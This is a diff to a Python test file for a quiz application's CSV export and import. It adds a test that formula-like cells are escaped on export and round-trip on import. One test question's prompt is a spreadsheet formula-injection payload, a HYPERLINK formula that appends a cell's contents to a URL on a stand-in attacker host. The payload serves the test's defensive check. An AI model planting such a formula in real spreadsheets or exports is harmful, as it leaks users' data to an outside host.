@@ -1,5 +1,7 @@
 """CSV: the documented column layout, every type, problems by line, and the round trip."""
 
+import csv
+import io
 from decimal import Decimal
 
 from django.conf import settings
@@ -183,6 +185,46 @@ def test_exported_csv_has_the_documented_header_and_one_row_per_question():
         "capital,single_choice,Capital of France?,Since 987.,2,,geo|europe-capitals,"
         "Lyon|Paris|Nice,2,false,,,,,,,"
     )
+
+
+FORMULAS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_export_writes_formula_like_cells_as_text_and_import_reads_them_back():
+    """A spreadsheet opening the export must not run a question's text as a formula; the
+    import gives back values that really start with such a character (a numeric answer -5)."""
+    questions = [
+        imported_question(
+            line=0,
+            slug="negative",
+            type=QuestionType.NUMERIC,
+            prompt='=HYPERLINK("http://evil.example/?"&A1,"Open")',
+            explanation="-5 degrees, as the article says.",
+            value=Decimal(-5),
+            tolerance=Decimal("0.5"),
+            unit="@C",
+        ),
+        imported_question(
+            line=0,
+            slug="signs",
+            type=QuestionType.SINGLE_CHOICE,
+            prompt="+1 or -1?",
+            choices=(("=", False), ("-1", True), ("'=quoted", False)),
+        ),
+        imported_question(
+            line=0, slug="answer", type=QuestionType.SHORT_TEXT, prompt="x", accepted=("-5",)
+        ),
+    ]
+    text = csv_format(questions)
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [cell for row in rows for cell in row.values() if cell.startswith(FORMULAS)] == []
+    assert rows[0]["prompt"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    assert (rows[0]["value"], rows[0]["unit"]) == ("'-5", "'@C")
+    assert rows[1]["choices"] == "'=|-1|'=quoted"
+    assert rows[2]["accepted"] == "'-5"
+    result = parse_csv(text)
+    assert result.problems == ()
+    assert list(result.questions) == questions
 
 
 @hypothesis_settings(max_examples=100, deadline=None)
